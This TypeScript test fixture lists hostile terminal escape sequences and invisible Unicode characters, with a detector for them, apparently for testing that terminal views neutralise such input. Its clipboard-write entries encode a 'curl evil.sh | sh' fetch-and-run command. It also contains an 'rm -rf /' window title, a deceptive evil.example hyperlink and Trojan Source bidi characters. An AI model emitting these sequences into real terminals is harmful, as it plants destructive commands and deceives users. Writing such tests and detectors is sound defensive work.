// Terminal escapes a hostile command or model could print, for the tests of every terminal view.
const ESC = "\u001b";
const BEL = "\u0007";
const ST = `${ESC}\\`;

export const HOSTILE_SEQUENCES: [name: string, sequence: string][] = [
  ["OSC 52 clipboard write (BEL)", `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`],
  ["OSC 52 clipboard write (ST)", `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${ST}`],
  ["OSC 0 window title", `${ESC}]0;sudo rm -rf / # totally safe${BEL}`],
  ["OSC 2 window title", `${ESC}]2;owned${ST}`],
  ["OSC 8 hyperlink", `${ESC}]8;;https://evil.example/${ST}click${ESC}]8;;${ST}`],
  ["cursor up", `${ESC}[5A`],
  ["cursor position", `${ESC}[1;1H`],
  ["clear screen", `${ESC}[2J`],
  ["erase line", `${ESC}[2K`],
  ["alternate screen", `${ESC}[?1049h`],
  ["hide cursor", `${ESC}[?25l`],
  ["full reset (RIS)", `${ESC}c`],
  ["save cursor", `${ESC}7`],
  ["charset switch", `${ESC}(0`],
  ["DCS (DECRQSS)", `${ESC}P$qm${ST}`],
  ["DCS tmux passthrough", `${ESC}Ptmux;${ESC}${ESC}]52;c;eA==${BEL}${ST}`],
  ["APC", `${ESC}_payload${ST}`],
  ["PM", `${ESC}^privacy${ST}`],
  ["SOS", `${ESC}Xstart${ST}`],
  ["8-bit CSI", "\u009b2J"],
  ["8-bit OSC", "\u009d52;c;eA==\u009c"],
  ["8-bit DCS", "\u0090$qm\u009c"],
  ["lone C1 NEL", "\u0085"],
  ["SGR colour from outside", `${ESC}[31;1m`],
  ["unterminated OSC", `${ESC}]0;title without end`],
  ["lone ESC", ESC],
  ["ESC ESC CSI (recombination)", `${ESC}${ESC}[31m[2J`],
  ["backspace overwrite", "safe\b\b\b\bevil"],
  ["bell", BEL],
  ["form feed and vertical tab", "\f\v"],
  ["NUL and DEL", "\u0000\u007f"],
  // Invisible on a terminal, but they reorder or disguise what a reader sees (Trojan Source).
  ["RLO right-to-left override", "\u202e"],
  ["LRE RLE PDF LRO embeddings", "\u202a\u202b\u202c\u202d"],
  ["LRI RLI FSI PDI isolates", "\u2066\u2067\u2068\u2069"],
  ["LRM RLM ALM marks", "\u200e\u200f\u061c"],
  ["zero-width space, non-joiner, joiner", "\u200b\u200c\u200d"],
  ["word joiner", "\u2060"],
  ["BOM (zero-width no-break space)", "\ufeff"],
  ["tag characters (hidden ASCII)", "\u{e0072}\u{e006d}"],
];

/** Every hostile sequence in one text, each between markers. */
export const HOSTILE_TEXT = HOSTILE_SEQUENCES.map(([name, sequence]) => `<${name}>${sequence}</${name}>`).join("\n");

/**
 * Control characters a terminal acts on (C0 but \n and \t, DEL, C1), or bidi controls and
 * invisible characters (zero-width, word joiner, BOM, tags), left in `text`.
 */
export function hasTerminalControl(text: string): boolean {
  return (
    // eslint-disable-next-line no-control-regex -- finding control characters is the point
    /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(text) ||
    /[\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/u.test(text)
  );
}

/** `text` with plain SGR colour sequences (ESC [ digits ; m) taken out: what is left must hold no control. */
export function withoutSgr(text: string): string {
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  return text.replace(/\u001b\[[\d;]*m/g, "");
}
